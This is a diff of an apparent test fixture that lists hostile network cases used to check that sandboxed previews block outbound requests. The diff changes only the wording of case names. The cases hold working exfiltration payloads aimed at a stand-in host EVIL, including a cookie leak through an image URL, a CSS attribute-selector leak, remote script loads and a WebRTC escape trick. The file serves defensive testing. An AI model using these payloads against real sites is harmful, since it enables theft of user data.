@@ -8,9 +8,9 @@ const RTC = 'web-platform-tests: content-security-policy/webrtc; "CSP and WebRTC
 const STUN = `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${LISTENER_PORT}' }, { urls: 'turn:127.0.0.1:${LISTENER_PORT}?transport=tcp', username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
 const FONT_USED = 'p { font: 20px pwned; }';
 const NESTED_RTC =
-  'Chromium 156 ends the process when a frame without an address makes an RTCPeerConnection under a Connection-Allowlist.';
+  'Chromium 156 ends the process when a frame without a URL creates an RTCPeerConnection under a Connection-Allowlist.';
 
-/** Cases that want to send something out, or to fetch something in. */
+/** Cases that try to send or load data over the network. */
 export const NETWORK_CASES: readonly HostileCase[] = [
   {
     name: 'fetches over https',
@@ -42,30 +42,30 @@ export const NETWORK_CASES: readonly HostileCase[] = [
     name: 'opens a WebTransport',
     source: 'web-platform-tests: webtransport/csp-fail',
     javascript: `attempt('WebTransport', () => new WebTransport('https://127.0.0.1:${LISTENER_PORT}/transport').ready);`,
-    harmlessAnywhere: 'the browsers of this suite are started without QUIC',
+    harmlessAnywhere: 'the browsers of this suite run without QUIC',
   },
-  { name: 'asks a STUN and a TURN server by WebRTC', source: RTC, javascript: STUN },
+  { name: 'contacts a STUN and a TURN server by WebRTC', source: RTC, javascript: STUN },
   {
-    name: 'asks a STUN server from a frame that it makes of text',
+    name: 'contacts a STUN server from a srcdoc frame',
     source: RTC,
     html: `<iframe srcdoc="<script>${STUN}</script>"></iframe>`,
     endsPreviews: NESTED_RTC,
   },
   {
-    name: 'asks a STUN server from a frame with a javascript: address',
+    name: 'contacts a STUN server from a frame with a javascript: URL',
     source: RTC,
     html: `<iframe src="javascript:'<script>${STUN.replaceAll("'", '&quot;')}</script>'"></iframe>`,
     endsPreviews: NESTED_RTC,
   },
   {
-    name: 'takes RTCPeerConnection from a fresh frame',
+    name: 'uses RTCPeerConnection of a new frame',
     source: 'PortSwigger: recovering natives from an iframe',
     javascript: `const fresh = document.body.appendChild(document.createElement('iframe')); const RTCPeerConnection = fresh.contentWindow.RTCPeerConnection; ${STUN}`,
   },
   { name: 'loads a script', source: CSP, html: '<script src="https://EVIL/script.js"></script>' },
   { name: 'imports a module', source: CSP, javascript: `attempt('a module', () => import('https://EVIL/module.js'));` },
   {
-    name: 'evaluates text',
+    name: 'evaluates strings as code',
     source: CSP,
     javascript: `attempt('eval', () => eval('1')); attempt('Function', () => new Function('return 1')()); attempt('a timer made of text', () => new Promise((resolve) => { window.ran = resolve; setTimeout('ran(true)', 0); }));`,
   },
@@ -75,7 +75,7 @@ export const NETWORK_CASES: readonly HostileCase[] = [
     css: '@import url("https://EVIL/import.css"); @import "http://EVIL/import.css" screen;',
   },
   {
-    name: 'sends what its own fields hold by attribute selectors over http',
+    name: 'sends the values of its fields by attribute selectors over http',
     source: 'XS-Leaks wiki: CSS injection',
     html: '<input value="secret"><p>x</p>',
     css: 'input[value^="s"] ~ p { background: url(http://EVIL/s); } p { cursor: url(http://EVIL/cursor), auto; list-style: url(http://EVIL/list); border-image: url(http://EVIL/border) 1; mask: url(http://EVIL/mask); }',
@@ -94,14 +94,14 @@ export const NETWORK_CASES: readonly HostileCase[] = [
     css: `@font-face { font-family: pwned; src: url(https://EVIL/font.woff2); unicode-range: U+66; } ${FONT_USED}`,
   },
   {
-    name: 'loads an image over https with whatever it can find',
+    name: 'loads an image over https with data in its URL',
     source: LEAKS,
     asks: true,
     html: '<img id="leak" referrerpolicy="unsafe-url">',
     javascript: `leak.src = 'https://EVIL/image?' + encodeURIComponent(document.cookie_ || document.referrer);`,
   },
   {
-    name: 'asks for the Referer with every image by a meta element',
+    name: 'requests a Referer for every image by a meta element',
     source: LEAKS,
     asks: true,
     html: '<meta name="referrer" content="unsafe-url"><img src="https://EVIL/meta">',
@@ -113,7 +113,7 @@ export const NETWORK_CASES: readonly HostileCase[] = [
     html: '<img crossorigin="use-credentials" src="https://EVIL/credentials">',
   },
   {
-    name: 'loads images over http in every way HTML knows',
+    name: 'loads images over http by every HTML feature',
     source: LEAKS,
     html: '<img src="http://EVIL/a" srcset="http://EVIL/b 2x"><picture><source srcset="http://EVIL/c"><img></picture><input type="image" src="http://EVIL/d"><body background="http://EVIL/e"><table background="http://EVIL/f"><tr><td></table><svg><image href="http://EVIL/g"/><use href="http://EVIL/h#x"/><feImage href="http://EVIL/i"/></svg>',
   },
@@ -131,7 +131,7 @@ export const NETWORK_CASES: readonly HostileCase[] = [
     name: 'connects ahead by preconnect and dns-prefetch',
     source: LEAKS,
     html: '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="http://dns.EVIL/"><link rel="preconnect" href="http://connect.EVIL/">',
-    harmlessAnywhere: 'the browser under test is started without background networking, and connects to nothing ahead',
+    harmlessAnywhere: 'the browser under test runs without background networking and makes no early connections',
   },
   {
     name: 'prefetches a page over https',
@@ -140,19 +140,19 @@ export const NETWORK_CASES: readonly HostileCase[] = [
     html: '<link rel="prefetch" href="https://EVIL/prefetch">',
   },
   {
-    name: 'has pages prerendered by speculation rules',
+    name: 'prerenders pages by speculation rules',
     source: 'web-platform-tests: speculation-rules CSP tests',
     html: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://EVIL/speculated"]}],"prerender":[{"source":"list","urls":["https://EVIL/prerendered"]}]}</script>',
-    harmlessAnywhere: 'only pages speculate, frames do not',
+    harmlessAnywhere: 'browsers ignore speculation rules in frames',
   },
   {
-    name: 'has the visitor send a ping',
+    name: 'sends a ping when the visitor clicks',
     source: 'html5sec: ping attribute',
     press: true,
     html: '<a style="position:fixed;inset:0" href="#x" ping="http://EVIL/ping">Go</a>',
   },
   {
-    name: 'asks the site’s own API',
+    name: 'sends a request to the site’s API',
     source: CSP,
     javascript: `attempt('the API', () => fetch('http://localhost:${LISTENER_PORT}/api', { credentials: 'include', mode: 'no-cors' }));`,
   },
